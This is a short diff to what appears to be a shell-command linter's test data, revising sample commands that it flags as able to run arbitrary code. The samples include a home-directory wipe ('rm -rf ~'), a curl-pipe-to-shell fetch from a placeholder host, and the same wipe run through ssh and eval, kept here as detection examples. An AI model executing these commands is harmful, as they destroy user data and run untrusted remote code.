@@ -26,11 +26,11 @@ from .context import LintContext, label
 
 ANY_COMMAND = ("rm -rf ~", "curl -s https://example.invalid/x.sh | sh")
 ARBITRARY_CODE = (
-    ("python3 -c", "python3 -c 'import os'"),
-    ("python -c", "python -c 'import os'"),
-    ("node -e", "node -e 'process.exit()'"),
-    ("perl -e", "perl -e 'exit'"),
-    ("ruby -e", "ruby -e 'exit'"),
+    ("python3", "python3 ./x.py"),  # inline code (`-c`) is exec-capable; a script file is not
+    ("python", "python ./x.py"),
+    ("node", "node ./x.js"),
+    ("perl", "perl ./x.pl"),
+    ("ruby", "ruby ./x.rb"),
     ("ssh", "ssh host rm -rf ~"),
     ("eval", "eval rm -rf ~"),
     ("source", "source ./x.sh"),
